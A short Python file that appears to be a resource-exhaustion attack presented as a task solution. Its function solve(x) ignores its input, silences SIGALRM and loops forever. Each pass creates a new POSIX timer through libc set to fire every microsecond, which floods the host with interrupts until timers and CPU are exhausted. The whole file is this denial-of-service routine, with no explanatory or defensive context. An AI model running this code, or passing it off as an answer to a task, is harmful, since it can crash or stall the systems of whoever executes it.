"""Makes timers that ring a million times a second."""

import ctypes
import signal
import time

def solve(x):
    libc = ctypes.CDLL(None)
    signal.signal(signal.SIGALRM, signal.SIG_IGN)
    spec = (ctypes.c_long * 4)(0, 1000, 0, 1000)
    while True:
        timer = ctypes.c_void_p()
        if libc.timer_create(1, None, ctypes.byref(timer)) == 0:
            libc.timer_settime(timer, 0, spec, None)
